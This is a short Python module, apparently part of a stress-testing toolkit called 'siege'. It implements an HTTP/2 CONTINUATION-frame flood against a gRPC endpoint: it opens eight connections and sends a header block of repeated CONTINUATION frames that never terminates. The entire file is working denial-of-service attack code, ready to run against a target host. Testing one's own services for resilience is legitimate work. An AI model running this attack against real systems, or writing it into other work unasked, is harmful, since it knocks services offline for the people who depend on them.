"""Sends a header block in CONTINUATION frames that never ends."""

from __future__ import annotations

from collections.abc import Sequence

import trio
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame

from tools.siege.attack import Attack, Target
from tools.siege.crowd import Crowd, hold
from tools.siege.grpc_frames import PREFACE

CONNECTIONS, FRAMES, PIECE = 8, 64, 8192


async def attack(target: Target, sources: Sequence[str]) -> None:
    """Attack until cancelled."""
    field = Encoder().encode([("x-filler", "x" * 200)])
    block = (field * (PIECE // len(field) + 1))[:PIECE]
    first = PREFACE + HeadersFrame(1, block).serialize()
    more = ContinuationFrame(1, block).serialize() * FRAMES

    async def visit(stream: trio.SocketStream) -> None:
        async def send() -> None:
            await stream.send_all(first)
            while True:
                await stream.send_all(more)

        async with trio.open_nursery() as nursery:
            nursery.start_soon(send)
            while await stream.receive_some(65536):
                pass
            nursery.cancel_scope.cancel()

    await hold([Crowd(target.host, target.grpc_port, CONNECTIONS)], sources, visit)


ATTACK = Attack("8 connections with a header block that never ends", attack)
